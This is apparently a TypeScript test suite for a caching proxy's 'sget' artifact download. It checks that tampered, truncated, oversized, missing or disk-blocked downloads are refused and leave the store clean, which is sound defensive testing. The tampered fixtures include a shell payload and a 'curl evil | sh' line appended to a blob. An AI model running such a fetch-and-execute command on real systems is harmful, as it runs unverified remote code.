// sget against an upstream that misbehaves: wrong bytes, a body cut short, more bytes than declared, a missing blob,
// a full disk; and many clients for one blob while its download is held open (one upstream GET, a client that hangs
// up does not cancel it). In every failure nothing of the artifact reaches the client and the store stays clean.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readdirSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import {
  oneFileManifest,
  serveBlob,
  serveManifest,
  sha256,
  startFakeUpstream,
  type FakeHandler,
  type FakeUpstream,
} from '../helpers/fake-upstream.ts';
import { startSigward, type RunningSigward } from '../helpers/sigward.ts';
import { ociErrorOf, rawGet } from '../helpers/raw-http.ts';
import { removeTempDir, tempDir, waitFor } from '../helpers/proc.ts';
import { must } from '../helpers/must.ts';
import { OFF_THREAD_MIN_BYTES } from '../../src/proxy/hash-thread.ts';

const OCI_MANIFEST = 'application/vnd.oci.image.manifest.v1+json';

function bytes(seed: string, size: number): Buffer {
  const out = Buffer.alloc(size);
  for (let at = 0, n = 0; at < size; n++) at += createHash('sha256').update(`${seed}/${n}`).digest().copy(out, at);
  return out;
}

/** A one-file artifact whose blob the test scripts with `blob` (default: served honestly). */
function host(
  fake: FakeUpstream,
  repo: string,
  data: Buffer,
  blob?: FakeHandler,
): { manifest: string; file: string; blobPath: string } {
  const m = oneFileManifest(data, { mediaType: 'application/x-sh', title: 'install.sh' });
  const blobPath = `/v2/${repo}/blobs/${sha256(data)}`;
  fake.route(`/v2/${repo}/manifests/${sha256(m)}`, (req, res) => serveManifest(res, m, OCI_MANIFEST, req.method));
  fake.route(blobPath, blob ?? ((_req, res) => serveBlob(res, data)));
  return { manifest: sha256(m), file: sha256(data), blobPath };
}

describe('sget with a faulty upstream', () => {
  let fake: FakeUpstream;
  let sw: RunningSigward;
  let full: RunningSigward;
  let cacheDir: string;
  let fullDir: string;
  const config = (dir: string) => ({
    upstreams: [{ host: 'example.test', url: fake.url, retries: 0 }],
    cache: { dir },
    policy: { default: 'deny', policies: [{ name: 'files', match: ['example.test/files/*'], allow: 'unsigned' }] },
  });
  const storeFiles = (dir = cacheDir) => ({
    blobs: readdirSync(join(dir, 'sget', 'blobs')),
    tmp: readdirSync(join(dir, 'sget', 'tmp')),
  });

  before(async () => {
    fake = await startFakeUpstream();
    cacheDir = tempDir('sget-faults');
    fullDir = tempDir('sget-full');
    sw = await startSigward(config(cacheDir));
    full = await startSigward(config(fullDir), { sgetFreeBytes: async () => 10 * 1024 * 1024 });
  });
  after(async () => {
    await sw?.stop();
    await full?.stop();
    await fake?.stop();
    for (const d of [cacheDir, fullDir]) if (d) removeTempDir(d);
  });

  const assertNothingServed = (r: { body: Buffer }, data: Buffer) => {
    assert.ok(ociErrorOf(r.body), `an OCI error body, got ${r.body.length} bytes`);
    assert.equal(r.body.indexOf(data.subarray(0, 32)), -1);
    assert.deepEqual(storeFiles(), { blobs: [], tmp: [] });
  };

  test('wrong bytes: 502, nothing served or stored; the failure is not cached', async () => {
    const data = bytes('wrong', 300_000);
    const evil = Buffer.from(data);
    evil.write('#!/bin/sh\necho owned\n', 0);
    const a = host(fake, 'files/wrong', data, (_req, res) => serveBlob(res, evil, { digest: sha256(data) }));
    for (let i = 1; i <= 2; i++) {
      const r = await rawGet(`${sw.url}/sget/example.test/files/wrong@${a.manifest}`);
      assert.equal(r.status, 502);
      assert.equal(ociErrorOf(r.body)?.code, 'DIGEST_INVALID');
      assert.match(ociErrorOf(r.body)?.message ?? '', /hash to sha256:[0-9a-f]{64}; nothing was served/);
      assertNothingServed(r, evil);
      assert.equal(fake.hits(a.blobPath), i);
    }
  });

  test('a body cut short: an error, no partial file left behind', async () => {
    const data = bytes('short', 300_000);
    const a = host(fake, 'files/short', data, (_req, res) => {
      res.writeHead(200, { 'Content-Type': 'application/octet-stream', 'Content-Length': String(data.length) });
      res.write(data.subarray(0, 100_000), () => res.destroy());
    });
    const r = await rawGet(`${sw.url}/sget/example.test/files/short@${a.manifest}`);
    // The connection closes before Content-Length was reached: a broken download (try again), not a lying upstream.
    assert.equal(r.status, 503, `status ${r.status} ${r.body.toString()}`);
    assert.equal(ociErrorOf(r.body)?.code, 'UNAVAILABLE');
    assert.match(ociErrorOf(r.body)?.message ?? '', /after \d+ bytes: the connection broke/);
    assertNothingServed(r, data);
  });

  test('more bytes than the manifest declares (no Content-Length): refused', async () => {
    const data = bytes('long', 10_000);
    const a = host(fake, 'files/long', data, (_req, res) => {
      res.writeHead(200, { 'Content-Type': 'application/octet-stream' }); // chunked
      res.end(Buffer.concat([data, Buffer.from('\ncurl evil | sh\n')]));
    });
    const r = await rawGet(`${sw.url}/sget/example.test/files/long@${a.manifest}`);
    assert.equal(r.status, 502);
    assert.match(ociErrorOf(r.body)?.message ?? '', /more than the 10000 bytes/);
    assertNothingServed(r, data);
  });

  test('a blob the upstream does not have: 404 BLOB_UNKNOWN', async () => {
    const data = bytes('missing', 1000);
    const a = host(fake, 'files/missing', data);
    fake.route(a.blobPath, (_req, res) => {
      res.writeHead(404, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ errors: [{ code: 'BLOB_UNKNOWN', message: 'blob unknown to registry' }] }));
    });
    const r = await rawGet(`${sw.url}/sget/example.test/files/missing@${a.manifest}`);
    assert.equal(r.status, 404);
    assert.equal(ociErrorOf(r.body)?.code, 'BLOB_UNKNOWN');
    assertNothingServed(r, data);
  });

  test('a full disk: 503 before the download starts, no temporary file', async () => {
    const data = bytes('full', 20_000);
    const a = host(fake, 'files/full', data);
    const r = await rawGet(`${full.url}/sget/example.test/files/full@${a.manifest}`);
    assert.equal(r.status, 503);
    assert.match(ociErrorOf(r.body)?.message ?? '', /has 10485760 bytes free/);
    assert.match(r.reason, /disk full/);
    assert.ok(r.headers['retry-after']);
    assert.equal(fake.hits(a.blobPath), 0);
    assert.deepEqual(storeFiles(fullDir), { blobs: [], tmp: [] });
  });

  test('concurrent clients share one upstream download; one that hangs up does not cancel it', async () => {
    const data = bytes('shared', 2 * 1024 * 1024);
    let release!: () => void;
    const held = new Promise<void>((r) => (release = r));
    const a = host(fake, 'files/shared', data, (_req, res) => {
      res.writeHead(200, { 'Content-Type': 'application/octet-stream', 'Content-Length': String(data.length) });
      res.write(data.subarray(0, 1024 * 1024));
      void held.then(() => res.end(data.subarray(1024 * 1024)));
    });
    // Every client finds the blob missing from the store and then joins the download (one per digest); counting the
    // misses while the upstream is held tells that each of them is waiting on that one download.
    const app = must(sw.app, 'in-process sigward');
    const server = must(sw.server, 'in-process server');
    const store = app.sget.store;
    const checkout = store.checkout.bind(store);
    let misses = 0;
    store.checkout = async (digest) => {
      const blob = await checkout(digest);
      if (blob === undefined && digest === a.file) misses++;
      return blob;
    };
    const downloadsBefore = app.sget.downloads;
    const connections = () =>
      new Promise<number>((resolve, reject) => server.getConnections((e, n) => (e ? reject(e) : resolve(n))));
    try {
      const url = `${sw.url}/sget/example.test/files/shared@${a.manifest}`;
      // The first client starts the download and hangs up while it is held half-way.
      const quitter = httpRequest(url, { agent: false });
      quitter.on('error', () => undefined);
      quitter.end();
      await waitFor(async () => fake.hits(a.blobPath) === 1, 'the upstream blob GET');
      const others = Array.from({ length: 5 }, () => rawGet(url, { timeoutMs: 60_000 }));
      await waitFor(async () => misses === 6, 'all six clients waiting on the download');
      assert.equal(app.sget.downloads - downloadsBefore, 1, 'one download for all six');
      const open = await connections();
      quitter.destroy();
      await waitFor(async () => (await connections()) === open - 1, 'sigward to see the first client hang up');
      release();
      for (const r of await Promise.all(others)) {
        assert.equal(r.status, 200);
        assert.ok(r.body.equals(data));
      }
      assert.equal(fake.hits(a.blobPath), 1);
      assert.equal(app.sget.downloads - downloadsBefore, 1);
      await app.sget.store.flush(); // the served file leaves tmp/ once it is durable
      assert.deepEqual(storeFiles().tmp, []);
    } finally {
      store.checkout = checkout;
    }
  });
  // Last: it leaves a stored artifact, and the tests above check that failures leave the store empty.
  test('a big artifact (hashed on the second core): one wrong byte is refused and not stored; the right one is served', async () => {
    const data = bytes('big', OFF_THREAD_MIN_BYTES + 1024 * 1024 + 3);
    const evil = Buffer.from(data);
    evil[evil.length - 1] = (evil[evil.length - 1] ?? 0) ^ 0x20;
    let honest = false;
    const a = host(fake, 'files/big', data, (_req, res) =>
      serveBlob(res, honest ? data : evil, { digest: sha256(data), chunk: 64 * 1024 }),
    );
    const bad = await rawGet(`${sw.url}/sget/example.test/files/big@${a.manifest}`);
    assert.equal(bad.status, 502);
    assert.equal(ociErrorOf(bad.body)?.code, 'DIGEST_INVALID');
    assert.equal(bad.body.indexOf(evil.subarray(0, 32)), -1);
    const hex = a.file.slice('sha256:'.length);
    assert.ok(!storeFiles().blobs.some((f) => f.includes(hex)), 'the refused download is not in the store');
    assert.deepEqual(storeFiles().tmp, []);
    honest = true;
    const good = await rawGet(`${sw.url}/sget/example.test/files/big@${a.manifest}`);
    assert.equal(good.status, 200);
    assert.ok(good.body.equals(data));
    assert.ok(
      storeFiles().blobs.some((f) => f.includes(hex)),
      `stored: ${storeFiles().blobs.join(', ')}`,
    );
  });
});
